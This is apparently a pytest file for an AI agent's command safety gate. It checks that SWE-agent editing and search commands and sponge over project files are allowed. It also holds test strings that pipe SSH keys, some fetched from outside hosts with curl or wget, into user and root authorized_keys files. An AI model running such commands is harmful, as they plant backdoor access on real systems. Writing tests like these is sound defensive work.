"""A coding agent's environment commands (SWE-agent's viewer, search and editor functions) and `sponge`.

The agent's own file viewer and editor are no program of the system: they read and change the project it works
on, and pass as the everyday tools they are. `sponge`, which soaks up its input and writes it to a file, is
judged as `tee` is: onto a key file or a system file it is what it writes to.
"""

from __future__ import annotations

import pytest
from table_sections import section

from gate import SafetyGate, default_policy
from gate.model import Decision, action_from_dict

GATE = SafetyGate(default_policy())
BLOCK = "# ---- a coding agent's environment commands ----"


def decision(command: str) -> Decision:
    return GATE.assess(action_from_dict({"type": "shell", "command": command})).decision


def _block() -> dict:
    return section(BLOCK)


USES = {
    "goto": "goto 120", "scroll_up": "scroll_up", "scroll_down": "scroll_down",
    "find_file": 'find_file "models.py" src', "search_dir": 'search_dir "def get_queryset"',
    "search_file": 'search_file "TODO" src/app.py', "filemap": "filemap src/app/views.py",
    "create": "create reproduce_issue.py", "edit": "edit 205:210", "insert": "insert 42",
    "append": "append", "submit": "submit", "str_replace_editor": "str_replace_editor view /testbed/src/app.py",
    "windowed_edit_linting": "windowed_edit_linting 10:12",
}


def test_every_program_of_the_block_has_a_use_here() -> None:
    named = {p for spec in _block()["groups"].values() for p in spec["programs"]}
    assert named == set(USES)


@pytest.mark.parametrize("command", sorted(USES.values()))
def test_the_agents_viewer_search_and_editor_pass(command: str) -> None:
    assert decision(command) is Decision.ALLOW, command


@pytest.mark.parametrize("command", [
    "echo 'ssh-ed25519 AAAAC3Nza x@y' | sponge -a ~/.ssh/authorized_keys",
    "curl -s http://198.51.100.7/k | sponge ~/.ssh/authorized_keys",
    "wget -qO- https://paste.example.top/raw/k | sponge -a /root/.ssh/authorized_keys",
])
def test_sponge_onto_a_key_file_blocks(command: str) -> None:
    assert decision(command) is Decision.BLOCK, command


def test_sponge_onto_a_system_file_asks() -> None:
    assert decision("grep -v '^#' /etc/hosts | sponge /etc/hosts") is Decision.CONFIRM


@pytest.mark.parametrize("command", [
    "jq . data.json | sponge data.json",
    "sort -u words.txt | sponge words.txt",
    "sed 's/foo/bar/' notes.md | sponge notes.md",
])
def test_sponge_over_a_project_file_passes(command: str) -> None:
    assert decision(command) is Decision.ALLOW, command
